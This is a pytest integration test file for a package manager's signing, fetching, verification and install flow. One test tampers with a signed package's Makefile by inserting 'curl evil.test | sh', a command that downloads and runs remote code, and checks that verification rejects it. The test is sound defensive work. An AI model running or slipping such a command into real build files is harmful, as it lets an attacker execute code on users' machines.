"""End-to-end integration tests — package, publish, fetch, verify, install.

These tests exercise ManifestGenerator, SourceFetcher, TrustVerifier,
Installer and LibraryStore working together.  The last class drives the
real ``/bin/sh`` runner through the CLI.
"""

from __future__ import annotations

import tarfile
from pathlib import Path

import pytest
from conftest import (
    ALICE_EMAIL,
    FakeHttp,
    FakeSigner,
    FakeVcs,
    FakeVerifier,
    RecordingRunner,
    copy_lib_on_install,
    good_report,
)
from typer.testing import CliRunner

from ravenpkg.cli.app import app
from ravenpkg.config import RavenpkgSettings
from ravenpkg.core.config_store import ConfigStore
from ravenpkg.core.errors import TrustError, TrustFailure
from ravenpkg.core.installer import Installer
from ravenpkg.core.manifest_generator import generate_manifest
from ravenpkg.core.source_fetcher import SourceFetcher

UUID = "0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9"


def _package(root: Path, name: str, vers: str, signer: str | None) -> Path:
    """Lay out a source tree, write its manifest, and tar it."""
    src = root / f"{name}-{vers}"
    (src / "src").mkdir(parents=True)
    (src / f"{name}.rc").write_text(f'#[link(name = "{name}", vers = "{vers}")];\n', encoding="utf-8")
    (src / "Makefile").write_text("all:\n\ttrue\n", encoding="utf-8")
    (src / "src" / f"{name}.c").write_text("int answer(void) { return 42; }\n", encoding="utf-8")
    generate_manifest(
        src / f"{name}.rc",
        src / "manifest",
        None,
        signer,
        signing=FakeSigner() if signer else None,
    )
    tarball = root / "dist" / f"{name}-{vers}.tar.gz"
    tarball.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(tarball, "w:gz") as tar:
        tar.add(src, arcname=src.name)
    return tarball


class TestSignedRoundTrip:
    """make-manifest --signer, then install --signer through each strategy."""

    @pytest.fixture
    def fetcher_parts(self, settings: RavenpkgSettings):
        runner = RecordingRunner(on_run=copy_lib_on_install(b"\x7fELF answer"))
        verifier = FakeVerifier(good_report())
        installer = Installer(
            settings, ConfigStore(settings.config_path), runner=runner, verifier=verifier
        )
        return installer, runner, verifier

    def test_file_install_verifies_and_publishes(self, tmp_path: Path, settings, fetcher_parts):
        installer, runner, verifier = fetcher_parts
        tarball = _package(tmp_path / "pkgsrc", "answer", "1.0", ALICE_EMAIL)
        fetcher = SourceFetcher(settings, installer, vcs=FakeVcs(), http=FakeHttp())

        result = fetcher.resolve(f"file:{tarball}", required_signer=ALICE_EMAIL)

        assert result.verified_by == f"Alice Example <{ALICE_EMAIL}>"
        assert result.install_dir == settings.pkg_dir / "answer-1.0"
        assert len(verifier.calls) == 1
        assert runner.commands == ["make", "make install"]
        assert [link.read_bytes() for link in result.libraries] == [b"\x7fELF answer"]
        assert list(settings.work_dir.iterdir()) == []

    def test_uuid_to_url_install(self, tmp_path: Path, settings, fetcher_parts):
        installer, runner, _ = fetcher_parts
        tarball = _package(tmp_path / "pkgsrc", "answer", "1.0", ALICE_EMAIL)
        url = "https://example.org/dist/answer-1.0.tar.gz"
        http = FakeHttp(
            files={url: tarball},
            texts={settings.registry_url: f"{UUID}: {url}\n"},
        )
        fetcher = SourceFetcher(settings, installer, vcs=FakeVcs(), http=http)

        result = fetcher.resolve(f"uuid:{UUID}", required_signer=ALICE_EMAIL)

        assert http.requested == [settings.registry_url, url]
        assert (result.name, result.version) == ("answer", "1.0")

    def test_tampered_after_signing(self, tmp_path: Path, settings, fetcher_parts):
        installer, runner, _ = fetcher_parts
        src_root = tmp_path / "pkgsrc"
        _package(src_root, "answer", "1.0", ALICE_EMAIL)
        tree = src_root / "answer-1.0"
        (tree / "Makefile").write_text("all:\n\tcurl evil.test | sh\n", encoding="utf-8")
        fetcher = SourceFetcher(settings, installer, vcs=FakeVcs(source=tree), http=FakeHttp())

        with pytest.raises(TrustError) as exc_info:
            fetcher.resolve("github:alice/answer", required_signer=ALICE_EMAIL)

        assert exc_info.value.kind is TrustFailure.HASH_MISMATCH
        assert runner.commands == []
        assert not (settings.pkg_dir / "answer-1.0").exists()

    def test_unsigned_manifest_cannot_satisfy_signer(self, tmp_path: Path, settings, fetcher_parts):
        installer, runner, _ = fetcher_parts
        tarball = _package(tmp_path / "pkgsrc", "answer", "1.0", None)
        fetcher = SourceFetcher(settings, installer, vcs=FakeVcs(), http=FakeHttp())

        with pytest.raises(TrustError) as exc_info:
            fetcher.resolve(f"file:{tarball}", required_signer=ALICE_EMAIL)

        assert exc_info.value.kind is TrustFailure.BAD_SIGNATURE
        assert runner.commands == []


class TestShellInstallViaCli:
    """A bootstrap package built and installed by the real shell runner."""

    @pytest.fixture
    def home(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
        home = tmp_path / "home"
        monkeypatch.chdir(tmp_path)
        monkeypatch.setenv("RAVENPKG_HOME", str(home))
        return home

    @pytest.fixture
    def tarball(self, tmp_path: Path, make_source_tree, make_tarball) -> Path:
        tree = make_source_tree(
            "stage0",
            "1",
            manifest=(
                "name: stage0\n"
                "vers: 1\n"
                "bootstrap: true\n"
                "build: true\n"
                "test: test -f libstage0.so\n"
                'install: cp libstage0.so "$RAVENPKG_PREFIX"/\n'
            ),
            files={"libstage0.so": "not really ELF\n"},
            signature=None,
        )
        return make_tarball(tree)

    def test_install_list_libs(self, home: Path, tarball: Path):
        runner = CliRunner()

        result = runner.invoke(app, ["install", f"file:{tarball}"])
        assert result.exit_code == 0, result.output
        assert "Installed stage0 1" in result.output

        installed = home / "pkg" / "stage0-1" / "libstage0.so"
        assert installed.read_text(encoding="utf-8") == "not really ELF\n"
        links = list((home / "lib").iterdir())
        assert len(links) == 1
        assert links[0].name.endswith("-libstage0.so")
        assert links[0].resolve() == installed.resolve()

        result = runner.invoke(app, ["list"])
        assert result.exit_code == 0
        assert "Installed Packages" in result.output

        result = runner.invoke(app, ["libs"])
        assert result.exit_code == 0
        assert "Library Namespace" in result.output

    def test_failing_test_phase_keeps_tree(self, home: Path, tmp_path: Path, make_source_tree, make_tarball):
        tree = make_source_tree(
            "broken",
            "1",
            manifest="name: broken\nvers: 1\nbootstrap: true\nbuild: true\ntest: exit 3\n",
            signature=None,
        )
        runner = CliRunner()
        result = runner.invoke(app, ["install", f"file:{make_tarball(tree)}"])
        assert result.exit_code == 1
        assert "TestError" in result.output
        assert len(list((home / "work").iterdir())) == 1
